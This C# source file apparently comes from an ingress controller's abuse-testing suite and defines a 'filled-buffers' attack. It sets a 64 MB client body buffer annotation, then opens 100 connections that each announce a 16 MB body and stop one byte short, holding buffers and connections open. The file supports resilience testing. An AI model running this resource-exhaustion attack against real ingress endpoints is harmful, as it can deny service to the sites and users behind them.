using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>An annotation that asks for a large buffer, and bodies that fill it and stop.</summary>
sealed class FilledBuffers() : Attack("filled-buffers", "S13", "client-body-buffer-size 64m, and 100 connections with 16 MB of a body that stops")
{
    const int Clients = 100;
    const int Length = 16 << 20;

    public override async Task RunAsync(AttackPlace place, CancellationToken end)
    {
        var host = await place.ServeAsync("filled", EvilPod.Answering(0), end, ("client-body-buffer-size", "64m"), ("proxy-body-size", "0"));
        var head = RawHttp.Post(host, "/", $"Content-Length: {Length}\r\n");
        var body = new byte[Length - 1];
        await Crowd.RunAsync(Clients, place.Tally, async (_, stop) =>
        {
            await using var stream = await place.ConnectAsync(place.Ports.Http, stop);
            place.Tally.Add("requests");
            await stream.WriteAsync(head, stop);
            await stream.WriteAsync(body, stop);
            place.Tally.Add("bodies sent");
            place.Tally.Add($"answers {await RawHttp.AskAsync(stream, [], stop)}");
        }, end);
    }
}
